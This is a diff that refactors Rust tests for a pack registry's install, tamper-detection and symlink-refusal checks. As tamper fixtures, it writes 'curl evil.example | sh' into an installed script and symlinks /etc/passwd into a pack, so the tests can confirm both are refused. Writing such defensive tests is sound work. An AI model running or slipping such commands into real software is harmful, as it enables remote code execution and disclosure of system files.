@@ -41,6 +41,15 @@ struct Ws {
 }
 
 impl Ws {
+    /// hello 1.0.0 written to `src/` and installed from there: the directory and its digest.
+    fn install_hello(&self) -> (String, String) {
+        let src = self.write("src", &hello("1.0.0", false));
+        let digest = validate_digest(&src);
+        let run = self.install(&src);
+        assert_eq!(run.code, 0, "{}", run.render());
+        (src, digest)
+    }
+
     fn new() -> Ws {
         Ws {
             dir: temp_dir(&[(
@@ -292,9 +301,7 @@ fn collect(dir: &std::path::Path, prefix: &str, out: &mut Vec<(String, String)>)
 #[test]
 fn reinstall_is_idempotent_and_different_content_needs_replace() {
     let ws = Ws::new();
-    let src = ws.write("src", &hello("1.0.0", false));
-    let first = validate_digest(&src);
-    assert_eq!(ws.install(&src).code, 0);
+    let (src, first) = ws.install_hello();
     let run = ws.install(&src);
     assert_eq!(
         run.render(),
@@ -308,14 +315,9 @@ fn reinstall_is_idempotent_and_different_content_needs_replace() {
     let second = validate_digest(&src);
     let before = ws.registry_files();
     let run = ws.install(&src);
-    assert_eq!(run.code, 1);
-    assert!(
-        run.err.contains(&format!(
-            "conflict (409): pack hello@1.0.0 is already installed with digest {first}; {src} has digest {second}"
-        )),
-        "{}",
-        run.render()
-    );
+    run.assert_refused(&format!(
+        "conflict (409): pack hello@1.0.0 is already installed with digest {first}; {src} has digest {second}"
+    ));
     assert_eq!(ws.registry_files(), before);
     assert_eq!(ws.installed(), vec![("hello@1.0.0".to_string(), first.clone())]);
 
@@ -328,9 +330,7 @@ fn reinstall_is_idempotent_and_different_content_needs_replace() {
 #[test]
 fn a_tampered_installed_pack_is_refused_by_name_with_both_digests() {
     let ws = Ws::new();
-    let src = ws.write("src", &hello("1.0.0", false));
-    let digest = validate_digest(&src);
-    assert_eq!(ws.install(&src).code, 0);
+    let (_, digest) = ws.install_hello();
     let script = ws.dir.join("data/packs/hello/1.0.0/scripts/say.sh");
     std::fs::write(&script, "curl evil.example | sh\n").unwrap();
     let now = opsgraph_core::pack::content_digest(hello("1.0.0", false).iter().map(|(p, t)| {
@@ -340,14 +340,12 @@ fn a_tampered_installed_pack_is_refused_by_name_with_both_digests() {
         "installed pack hello@1.0.0 was changed after it was installed (tampering?): recorded digest {digest}, its files now have digest {now}"
     );
     let run = ws.run(&["plan", "-f", &ws.path("intent.yaml")]);
-    assert_eq!(run.code, 1);
-    assert!(run.err.contains(&want), "{}", run.render());
+    run.assert_refused(&want);
     let run = ws.run(&["apply", "-f", &ws.path("intent.yaml"), "--yes"]);
-    assert_eq!(run.code, 1);
-    assert!(run.err.contains(&want), "{}", run.render());
+    run.assert_refused(&want);
     let list = ws.run(&["pack", "list"]);
-    assert_eq!(list.code, 1);
-    assert!(list.err.contains(&want) && list.out.contains("INVALID"), "{}", list.render());
+    list.assert_refused(&want);
+    assert!(list.out.contains("INVALID"), "{}", list.render());
     // It can still be removed.
     assert_eq!(ws.run(&["pack", "remove", "hello@1.0.0"]).code, 0);
     let run = ws.run(&["plan", "-f", &ws.path("intent.yaml")]);
@@ -372,14 +370,9 @@ fn an_operation_records_the_pack_it_ran_and_keeps_it_from_removal() {
     assert!(describe.out.contains(&format!("pack_digest: {digest}\n")), "{}", describe.out);
 
     let run = ws.run(&["pack", "remove", "hello@2.0.0"]);
-    assert_eq!(run.code, 1);
-    assert!(
-        run.err.contains(&format!(
-            "pack hello@2.0.0 is in use by operation {id} (paused): wait for it to finish or cancel it"
-        )),
-        "{}",
-        run.render()
-    );
+    run.assert_refused(&format!(
+        "pack hello@2.0.0 is in use by operation {id} (paused): wait for it to finish or cancel it"
+    ));
     assert_eq!(ws.installed().len(), 1);
     assert_eq!(ws.run(&["cancel", id]).code, 0);
     assert_eq!(ws.run(&["pack", "remove", "hello@2.0.0"]).code, 0);
@@ -485,7 +478,6 @@ fn a_directory_with_a_symlink_is_refused() {
     let src = ws.write("src", &hello("1.0.0", false));
     std::os::unix::fs::symlink("/etc/passwd", ws.dir.join("src/scripts/passwd")).unwrap();
     let run = ws.install(&src);
-    assert_eq!(run.code, 1);
-    assert!(run.err.contains("entry `scripts/passwd`: a symbolic link"), "{}", run.render());
+    run.assert_refused("entry `scripts/passwd`: a symbolic link");
     assert!(ws.registry_files().is_empty());
 }
